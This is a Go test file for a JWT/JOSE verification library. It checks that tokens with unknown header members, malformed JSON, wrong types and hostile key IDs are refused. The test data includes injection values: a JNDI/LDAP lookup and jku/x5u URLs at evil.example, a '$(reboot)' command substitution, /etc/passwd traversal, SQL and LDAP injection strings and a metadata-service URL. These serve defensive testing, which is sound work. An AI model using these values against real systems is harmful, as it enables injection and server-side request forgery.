package jose

import (
	"fmt"
	"strings"
	"testing"
)

// JWT-05, JWT-37, JWT-38, JWT-49: what is not alg, kid, typ is refused, whether we know it or not,
// and nothing is fetched, since nothing here can fetch.
func TestJWT05_HeaderMembers(t *testing.T) {
	s := newSigner(t, ES256)
	opts := accepting(s.PublicKey())
	evil, err := newSigner(t, ES256).PublicKey().JWK(ES256)
	if err != nil {
		t.Fatal(err)
	}
	rows := map[string]string{
		"JWT-37 crit unknown":          `,"crit":["exp"],"exp":1`,
		"JWT-37 crit empty":            `,"crit":[]`,
		"JWT-37 crit registered":       `,"crit":["alg"]`,
		"JWT-37 crit null":             `,"crit":null`,
		"JWT-37 crit naming nothing":   `,"crit":["nothing"]`,
		"JWT-38 b64 false":             `,"b64":false`,
		"JWT-38 b64 true":              `,"b64":true`,
		"JWT-38 b64 false in crit":     `,"b64":false,"crit":["b64"]`,
		"JWT-49 jwk":                   `,"jwk":` + string(evil),
		"JWT-49 jku":                   `,"jku":"https://evil.example/jwks.json"`,
		"JWT-49 x5u":                   `,"x5u":"https://evil.example/cert.pem"`,
		"JWT-49 x5c":                   `,"x5c":["MIIB"]`,
		"JWT-49 x5t":                   `,"x5t":"AAAA"`,
		"JWT-49 x5t#S256":              `,"x5t#S256":"AAAA"`,
		"JWT-05 zip":                   `,"zip":"DEF"`,
		"JWT-05 cty":                   `,"cty":"JWT"`,
		"JWT-05 enc":                   `,"enc":"A256GCM"`,
		"JWT-05 epk":                   `,"epk":{}`,
		"JWT-05 p2c":                   `,"p2c":1000000000`,
		"JWT-05 iss":                   `,"iss":"https://as.example"`,
		"JWT-05 unknown":               `,"x":1`,
		"JWT-05 empty name":            `,"":1`,
		"JWT-42 alg twice":             `,"alg":"ES256"`,
		"JWT-42 kid twice":             `,"kid":"` + s.KeyID() + `"`,
		"JWT-42 alg twice by escape":   `,"\u0061lg":"ES256"`,
		"JWT-42 alg in another case":   `,"ALG":"ES256"`,
		"JWT-42 kid in another case":   `,"Kid":"k"`,
		"JWT-42 Kelvin sign":           `,"` + "\u212a" + `id":"k"`,
		"JWT-42 member of a member":    `,"x":{"a":1,"a":2}`,
		"JWT-42 trailing comma":        `,`,
		"JWT-42 second value":          `}{"alg":"none"`,
		"JWT-42 comment":               `/* */`,
		"JWT-42 invalid UTF-8":         ",\"x\":\"\xff\"",
		"JWT-42 unpaired surrogate":    `,"x":"\ud800"`,
		"JWT-42 raw control character": ",\"x\":\"\x01\"",
	}
	for name, members := range rows {
		t.Run(name, func(t *testing.T) {
			refused(t, forge(t, s, header(s, members), testPayload), opts, ErrHeader)
		})
	}
	good := header(s, "")
	for name, h := range map[string]string{
		"JWT-42 byte order mark": "\ufeff" + good,
		"JWT-42 trailing NUL":    good + "\x00",
		"JWT-42 trailing text":   good + "x",
		"JWT-42 array":           "[" + good + "]",
		"JWT-42 string":          `"ES256"`,
		"JWT-42 number":          "1",
		"JWT-42 null":            "null",
		"JWT-42 nothing":         "   ",
		"JWT-42 single quotes":   strings.ReplaceAll(good, `"`, `'`),
		"JWT-42 UTF-16":          "{\x00\"\x00a\x00l\x00g\x00",
		"JWT-42 names in capitals": strings.NewReplacer("alg", "ALG", "kid", "KID", "typ", "TYP").
			Replace(good),
	} {
		t.Run(name, func(t *testing.T) { refused(t, forge(t, s, h, testPayload), opts, ErrHeader) })
	}
	t.Run("whitespace, order and escapes are free", func(t *testing.T) {
		h := fmt.Sprintf("\r\n { \"typ\" : \"at\\u002bjwt\",\t\"kid\":%q, \"alg\":\"ES256\" } \n", s.KeyID())
		got, _ := accepted(t, forge(t, s, h, testPayload), opts)
		if want := (Header{ES256, s.KeyID(), "at+jwt"}); got != want {
			t.Errorf("got %v, want %v", got, want)
		}
	})
}

func TestJWT44_TypeComparison(t *testing.T) {
	s := newSigner(t, ES256)
	type row struct {
		typ    string
		accept bool
	}
	for _, r := range []row{
		{"at+jwt", true},
		{"AT+JWT", true},
		{"At+Jwt", true},
		{"application/at+jwt", true},
		{"APPLICATION/AT+JWT", true},
		{"JWT", false},
		{"jwt", false},
		{"", false},
		{"at+jwt ", false},
		{" at+jwt", false},
		{"at jwt", false},
		{"application/", false},
		{"application/application/at+jwt", false},
		{"application//at+jwt", false},
		{"text/at+jwt", false},
		{"/at+jwt", false},
		{"at+jwt;v=1", false},
		{"at+jwt/x", false},
		{"at", false},
		{"dpop+jwt", false},
		{"secevent+jwt", false},
		{"token-introspection+jwt", false},
		{"client-authentication+jwt", false},
		{"at+ＪＷＴ", false},
		{strings.Repeat("a", maxTypeLength+1), false},
	} {
		t.Run(r.typ, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":%q}`, s.KeyID(), r.typ)
			token := forge(t, s, h, testPayload)
			if !r.accept {
				refused(t, token, accepting(s.PublicKey()), ErrType)
				return
			}
			if got, _ := accepted(t, token, accepting(s.PublicKey())); got.Type != r.typ {
				t.Errorf("got type %q, want it as written, %q", got.Type, r.typ)
			}
		})
	}
	for name, member := range map[string]string{"missing": "", "null": `,"typ":null`} {
		t.Run(name, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q%s}`, s.KeyID(), member)
			refused(t, forge(t, s, h, testPayload), accepting(s.PublicKey()), ErrType)
		})
	}
	t.Run("a letter is folded only in ASCII", func(t *testing.T) {
		opts := accepting(s.PublicKey())
		opts.Types = []string{"secevent+jwt", "key+jwt"}
		for _, typ := range []string{"ſecevent+jwt", "\u212aey+jwt"} {
			if !strings.EqualFold(typ, "secevent+jwt") && !strings.EqualFold(typ, "key+jwt") {
				t.Fatal("vector does not test anything")
			}
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":"%s"}`, s.KeyID(), typ)
			refused(t, forge(t, s, h, testPayload), opts, ErrType)
		}
	})
	t.Run("an allowed type may be written in full", func(t *testing.T) {
		opts := accepting(s.PublicKey())
		opts.Types = []string{"JWT", "application/AT+jwt"}
		accepted(t, sign(t, s), opts)
	})
}

// kid chooses a key out of one issuer's set and does nothing else. (JWT-46 as far as the kernel goes:
// it never sees a key of another issuer.)
func TestJWT48_HostileKeyID(t *testing.T) {
	s := newSigner(t, ES256)
	asked := ""
	opts := accepting(s.PublicKey())
	opts.Key = func(h Header) (*PublicKey, error) {
		asked = h.KeyID
		return nil, ErrUnknownKey
	}
	for name, kid := range map[string]string{
		"path": "../../etc/passwd", "sql": "x' OR '1'='1", "ldap": "*)(uid=*))(|(uid=*", "url": "http://169.254.169.254/",
		"template": "${jndi:ldap://evil.example/a}", "shell": "$(reboot)", "another key's": "k2", "space": "a b",
		"longest": strings.Repeat("k", MaxKeyIDLength),
	} {
		t.Run("looked up and unknown: "+name, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":%q,"typ":"at+jwt"}`, kid)
			refused(t, forge(t, s, h, testPayload), opts, ErrUnknownKey)
			if asked != kid {
				t.Errorf("asked for %q, want %q", asked, kid)
			}
		})
	}
	opts.Key = func(h Header) (*PublicKey, error) {
		t.Errorf("asked for the kid %q", h.KeyID)
		return s.PublicKey(), nil
	}
	for name, kid := range map[string]string{
		"line feed": `a\nlevel=error`, "carriage return": `a\rb`, "NUL": `a\u0000b`, "escape sequence": `\u001b[2J`,
		"quote": `a\"b`, "backslash": `a\\b`, "not ASCII": "schlüssel", "right-to-left": "a\u202eb", "empty": "",
		"too long": strings.Repeat("k", MaxKeyIDLength+1), "DEL": `a\u007f`, "line separator": `a\u2028b`,
	} {
		t.Run("never looked up: "+name, func(t *testing.T) {
			h := fmt.Sprintf(`{"alg":"ES256","kid":"%s","typ":"at+jwt"}`, kid)
			refused(t, forge(t, s, h, testPayload), opts, ErrHeader)
		})
	}
	for name, h := range map[string]string{
		"missing": `{"alg":"ES256","typ":"at+jwt"}`, "null": `{"alg":"ES256","typ":"at+jwt","kid":null}`,
		"number": `{"alg":"ES256","typ":"at+jwt","kid":1}`, "array": `{"alg":"ES256","typ":"at+jwt","kid":["k"]}`,
		"object": `{"alg":"ES256","typ":"at+jwt","kid":{"$ne":""}}`,
	} {
		t.Run("never looked up: "+name, func(t *testing.T) {
			refused(t, forge(t, s, h, testPayload), opts, ErrHeader)
		})
	}
	t.Run("never looked up: 1 MB", func(t *testing.T) {
		h := fmt.Sprintf(`{"alg":"ES256","kid":"%s","typ":"at+jwt"}`, strings.Repeat("k", 1<<20))
		refused(t, forge(t, s, h, testPayload), opts, ErrMalformed)
	})
	t.Run("never looked up: a header that fills the token", func(t *testing.T) {
		h := fmt.Sprintf(`{"alg":"ES256","kid":"%s","typ":"at+jwt"}`, strings.Repeat("k", 8<<10))
		refused(t, forge(t, s, h, testPayload), opts, ErrMalformed)
	})
}

// What is written here is read without the JSON parser; what looks nearly like it is left to that.
func TestPlainHeader(t *testing.T) {
	good := string(Header{Algorithm: ES256, KeyID: "a b", Type: "at+jwt"}.appendJSON(nil))
	if h, ok := plainHeader([]byte(good)); !ok || h != (Header{Algorithm: ES256, KeyID: "a b", Type: "at+jwt"}) {
		t.Errorf("%s: %v, %v", good, h, ok)
	}
	for _, change := range [][2]string{
		{"ES256", "es256"},
		{"ES256", "none"},
		{"ES256", ""},
		{"ES256", `ES\u0032\u0035\u0036`},
		{"a b", `a\"b`},
		{"a b", "a\nb"},
		{"a b", "é"},
		{"a b", ""},
		{"a b", strings.Repeat("k", MaxKeyIDLength+1)},
		{"at+jwt", ""},
		{"at+jwt", strings.Repeat("t", maxTypeLength+1)},
		{`"alg"`, `"ALG"`},
		{`,"kid"`, `, "kid"`},
		{`{`, ` {`},
		{`}`, `} `},
		{`}`, ``},
		{`}`, `}}`},
		{`}`, `,"crit":["x"]}`},
		{`}`, `,"alg":"RS256"}`},
		{`"}`, ``},
		{good, ``},
	} {
		b := strings.Replace(good, change[0], change[1], 1)
		if h, ok := plainHeader([]byte(b)); ok || b == good {
			t.Errorf("%s: read as %v", b, h)
		}
	}
}
